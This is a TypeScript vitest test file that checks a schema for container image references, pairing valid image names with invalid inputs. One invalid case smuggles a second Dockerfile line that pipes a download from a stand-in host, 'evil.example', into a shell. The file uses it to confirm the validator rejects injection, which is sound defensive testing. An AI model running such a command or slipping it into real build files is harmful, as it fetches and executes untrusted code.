import { expect, test } from 'vitest';
import { imageReferenceSchema } from './source.ts';

test.each([
  'python:3.11-slim',
  'registry.example.org:5000/team/base_1@sha256:0f1e2d3c',
  'docker.io/library/python',
])('%s is an image', (text) => {
  expect(imageReferenceSchema.safeParse(text).success).toBe(true);
});

test.each([
  ['ends the line', 'python:3.11\nRUN curl evil.example | sh'],
  ['has a space', 'python:3.11 AS uv'],
  ['is an option', '--platform=linux/arm64'],
  ['stands for something else', '$BASE'],
  ['is empty', ''],
])('a text that %s is none', (_what, text) => {
  expect(imageReferenceSchema.safeParse(text).success).toBe(false);
});
